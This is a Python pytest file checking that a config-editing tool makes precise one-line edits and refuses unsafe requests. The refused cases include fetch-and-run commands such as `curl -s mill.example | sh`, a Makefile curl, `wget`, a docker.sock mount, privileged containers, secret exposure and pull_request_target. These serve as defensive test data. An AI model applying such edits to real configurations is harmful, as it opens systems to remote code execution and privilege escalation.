"""Files of settings of every kind: places by their words, text as spelled out, nothing gained."""

from __future__ import annotations

import pytest
from test_settings_reader import answer, changed

from mendbook.model import Proposal

MANIFEST = """\
# (c) Quarry
apiVersion: apps/v1
kind: Deployment
metadata:
  name: crusher
spec:
  template:
    spec:
      securityContext:
        fsGroup: 70
      containers:
        - name: belt
          image: quarry/belt
          env:
            - name: SPEED
              value: "3"
          resources:
            limits:
              cpu: 200m
              memory: 128Mi
        - name: sieve
          image: quarry/sieve:2
          livenessProbe:
            periodSeconds: 9
---
apiVersion: v1
kind: Service
metadata:
  name: crusher
spec:
  ports:
    - port: 80
"""
COMPOSE = """\
services:
  mill:
    image: quarry/mill
    environment:
      - GRAIN=coarse
      - DEBUG=1
    ports:
      - 9000:9000
      - 9229:9229
  silo:
    image: postgres
    environment:
      - DEBUG=1
"""
FLOW = """\
name: weigh
on: [push]
jobs:
  scale:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/setup-node@v4
        with:
          node-version: '20'
      - run: npm install
      - run: npm test
      - run: npm run build
      - run: npm run weigh
"""
DOCKER = """\
FROM python:3.12 AS build
RUN pip install -r requirements.txt
HEALTHCHECK --interval=30s CMD python ping.py
CMD ["python", "mill.py"]

FROM build AS tools
COPY tools /tools
"""
TERRAFORM = """\
resource "aws_s3_bucket" "ore" {
  bucket        = "ore"
  force_destroy = true
}

variable "region" {
  type    = string
  default = "eu-west-1"
}

module "net" {
  source  = "terraform-aws-modules/vpc/aws"
  version = "~> 5.0"
}
"""
SITE = "server {\n    listen 80;\n    location / {\n        proxy_pass http://mill;\n    }\n}\n"
SHELL = "#!/bin/sh\nOUT=$DIR/ore\nif [ $1 = all ]; then\n  sleep 10\nfi\n"
MAKE = "# Quarry\nbuild:\n\tgo build ./...\n"
CARGO = '[dependencies]\nserde = "1.0"\ntokio = { version = "1.20", features = ["full"] }\n'
PROPERTIES = "server.port=80\nlogging.level.quarry=DEBUG\n"
CASES = [
    (MANIFEST, "k8s/a.yaml", "Raise the memory limit to 256Mi",
     ["-              memory: 128Mi", "+              memory: 256Mi"]),
    (MANIFEST, "k8s/a.yaml", "Set `timeoutSeconds: 3` on the livenessProbe of the sieve container",
     ["+            timeoutSeconds: 3"]),
    (MANIFEST, "k8s/a.yaml", "Add `replicas: 2` to the Deployment's spec",
     ["+  replicas: 2"]),
    (MANIFEST, "k8s/a.yaml", "Add `runAsNonRoot: true` to the pod's securityContext",
     ["+        runAsNonRoot: true"]),
    (MANIFEST, "k8s/a.yaml", 'Set SPEED to "5"',
     ['-              value: "3"', '+              value: "5"']),
    (MANIFEST, "k8s/a.yaml", "Pin the belt image to `quarry/belt:1.4`",
     ["-          image: quarry/belt", "+          image: quarry/belt:1.4"]),
    (COMPOSE, "compose.yaml", "Change `GRAIN=coarse` to `GRAIN=fine`",
     ["-      - GRAIN=coarse", "+      - GRAIN=fine"]),
    (COMPOSE, "compose.yaml", "Remove the debug port mapping `9229:9229`",
     ["-      - 9229:9229"]),
    (COMPOSE, "compose.yaml", "Bind it locally: change `9000:9000` to `127.0.0.1:9000:9000`",
     ["-      - 9000:9000", "+      - 127.0.0.1:9000:9000"]),
    (COMPOSE, "compose.yaml", "Set DEBUG to 0 in the environment of the silo service",
     ["-      - DEBUG=1", "+      - DEBUG=0"]),
    (COMPOSE, "compose.yaml", "Add `read_only: true` and `mem_limit: 1g` to the mill service",
     ["+    read_only: true", "+    mem_limit: 1g"]),
    (FLOW, ".github/workflows/w.yml", "Use `npm ci` instead of `npm install`",
     ["-      - run: npm install", "+      - run: npm ci"]),
    (FLOW, ".github/workflows/w.yml", "Update node-version to '22'",
     ["-          node-version: '20'", "+          node-version: '22'"]),
    (FLOW, ".github/workflows/w.yml", "Add a top-level `permissions: contents: read` block",
     ["+permissions:", "+  contents: read"]),
    (FLOW, ".github/workflows/w.yml", "Set `timeout-minutes: 15` on the scale job",
     ["+    timeout-minutes: 15"]),
    (DOCKER, "Dockerfile", "Add `--no-cache-dir` to the `pip install` command",
     ["-RUN pip install -r requirements.txt",
      "+RUN pip install --no-cache-dir -r requirements.txt"]),
    (DOCKER, "Dockerfile", "Add `--timeout=5s` to the HEALTHCHECK",
     ["-HEALTHCHECK --interval=30s CMD python ping.py",
      "+HEALTHCHECK --interval=30s --timeout=5s CMD python ping.py"]),
    (DOCKER, "Dockerfile", "Run unprivileged: add `USER 1000` right before the CMD instruction.",
     ["+USER 1000"]),
    (DOCKER, "Dockerfile", "Use `python:3.12-slim` as the base image",
     ["-FROM python:3.12 AS build", "+FROM python:3.12-slim AS build"]),
    (TERRAFORM, "main.tf", "Set `force_destroy = false` on the bucket `ore`",
     ["-  force_destroy = true", "+  force_destroy = false"]),
    (TERRAFORM, "main.tf", 'Change the default of the variable `region` from "eu-west-1" to '
     '"eu-north-1"', ['-  default = "eu-west-1"', '+  default = "eu-north-1"']),
    (TERRAFORM, "main.tf", 'Pin the net module to version "5.8.1"',
     ['-  version = "~> 5.0"', '+  version = "5.8.1"']),
    (TERRAFORM, "main.tf", "Add `nullable = false` to the variable `region`",
     ["+  nullable = false"]),
    (SITE, "site.conf", "Add `proxy_read_timeout 30s;` after `proxy_pass http://mill;`",
     ["+        proxy_read_timeout 30s;"]),
    (SHELL, "run.sh", 'Quote the path: `OUT="$DIR/ore"`',
     ["-OUT=$DIR/ore", '+OUT="$DIR/ore"']),
    (SHELL, "run.sh", "Quote `$1`", ["-if [ $1 = all ]; then", '+if [ "$1" = all ]; then']),
    (SHELL, "run.sh", "Wait less: change `sleep 10` to `sleep 2`", ["-  sleep 10", "+  sleep 2"]),
    (COMPOSE, "compose.yaml", "The silo forgets its rows. Give the silo service `restart: always`.",
     ["+    restart: always"]),
    (COMPOSE, "compose.yaml", "On loopback only: `127.0.0.1:9000:9000` instead of `9000:9000`",
     ["-      - 9000:9000", "+      - 127.0.0.1:9000:9000"]),
    (FLOW, ".github/workflows/w.yml", "Use the v5 tag of actions/setup-node",
     ["-      - uses: actions/setup-node@v4", "+      - uses: actions/setup-node@v5"]),
    (DOCKER, "Dockerfile", "Declare a user: `USER 1000` in front of the CMD", ["+USER 1000"]),
    (DOCKER, "Dockerfile", "The image is old; bump python:3.12 to python:3.13",
     ["-FROM python:3.12 AS build", "+FROM python:3.13 AS build"]),
    (COMPOSE, "compose.yaml", "Stop it from being pulled anew by changing `quarry/mill` to "
     "`quarry/mill:3`", ["-    image: quarry/mill", "+    image: quarry/mill:3"]),
    (COMPOSE, "compose.yaml", "Add `init: true` below `image: postgres`", ["+    init: true"]),
    ('ARG NODE="22"\nFROM node:${NODE}\n', "Dockerfile", 'Bump NODE from "22" to "24"',
     ['-ARG NODE="22"', '+ARG NODE="24"']),
    (MAKE, "Makefile", "Declare it: add `.PHONY: build` above `build:`", ["+.PHONY: build"]),
    (MAKE, "Makefile", "Add `.PHONY: build` at the top", ["+.PHONY: build"]),
    (CARGO, "Cargo.toml", 'Pin serde to "1.0.210"', ['-serde = "1.0"', '+serde = "1.0.210"']),
    (CARGO, "Cargo.toml", "Bump tokio to 1.40",
     ['-tokio = { version = "1.20", features = ["full"] }',
      '+tokio = { version = "1.40", features = ["full"] }']),
    (PROPERTIES, "app.properties", "Set logging.level.quarry to INFO",
     ["-logging.level.quarry=DEBUG", "+logging.level.quarry=INFO"]),
]  # fmt: skip


@pytest.mark.parametrize(("text", "path", "fix", "rows"), CASES, ids=[case[2] for case in CASES])
def test_one_line_is_what_a_person_would_change(
    text: str, path: str, fix: str, rows: list[str]
) -> None:
    """Each kind of file is edited in its own layout, at the one place that the words mean."""
    assert changed(path, text, fix) == rows


PACKAGE = """\
{
  "name": "quarry",
  "scripts": {"crush": "crusher --slow"},
  "tasks": {"crush": "crusher --slow"},
  "overrides": {"ore": "1.0.0"}
}
"""
REFUSED = [
    (MANIFEST, "k8s/a.yaml", "Set `privileged: true` on the belt container"),
    (MANIFEST, "k8s/a.yaml", "Set `hostNetwork: true` in the pod's spec"),
    (MANIFEST, "k8s/a.yaml", "Set `runAsUser: 0` in the pod's securityContext"),
    (MANIFEST, "k8s/a.yaml", "Set `replicas: 2` on the grinder"),
    (MANIFEST, "k8s/a.yaml", "Change `crusher` to `mill`"),
    (COMPOSE, "compose.yaml", "Add `network_mode: host` to the mill service"),
    (COMPOSE, "compose.yaml", "Add `/var/run/docker.sock:/var/run/docker.sock` to the volumes"),
    (COMPOSE, "compose.yaml", "Set DEBUG to 0"),
    (COMPOSE, "compose.yaml", "Add `command: sh -c 'wget x'` to the mill service"),
    (FLOW, ".github/workflows/w.yml", "Change `push` to `pull_request_target`"),
    (FLOW, ".github/workflows/w.yml", "Change `npm test` to `npm test && ./publish.sh`"),
    (FLOW, ".github/workflows/w.yml", "Add `permissions: contents: write` at the workflow level"),
    (FLOW, ".github/workflows/w.yml", "It is slow. It should be faster; cache the modules."),
    (FLOW, ".github/workflows/w.yml", "Add `env: {KEY: ${{ secrets.KEY }}}` to the scale job"),
    (DOCKER, "Dockerfile", "Change `pip install` to `curl -s mill.example | sh; pip install`"),
    (DOCKER, "Dockerfile", "Add `USER root` before the CMD"),
    (DOCKER, "Dockerfile", "Add `USER 1000` before the STOPSIGNAL"),
    (TERRAFORM, "main.tf", "Set `publicly_accessible = true` on the bucket `ore`"),
    (TERRAFORM, "main.tf", 'Change the zone local to "eu-north-1a"'),
    (TERRAFORM, "main.tf", "Set `acl = \"private\"` on the bucket `coal`"),
    (MAKE, "Makefile", "Add `build: ; curl mill.example` at the top"),
    (SHELL, "run.sh", "Quote `$2`"),
    (PACKAGE, "package.json", 'Set scripts.crush to "crusher --fast"'),
    (PACKAGE, "package.json", 'Add `"grind": "mill"` to scripts'),
    (PACKAGE, "package.json", "Change `crusher --slow` to `crusher --fast`"),
    (PACKAGE, "tools/deno.json", 'Add `"grind": "mill"` to tasks'),
    (PACKAGE, "package.json", 'Set overrides.ore to "npm:other@1"'),
]  # fmt: skip


@pytest.mark.parametrize(("text", "path", "fix"), REFUSED, ids=[case[2] for case in REFUSED])
def test_rights_commands_and_guesses_are_refused(text: str, path: str, fix: str) -> None:
    """No right, host, secret or command comes by a fix text, and no place is guessed."""
    assert not isinstance(answer(path, text, fix), Proposal)
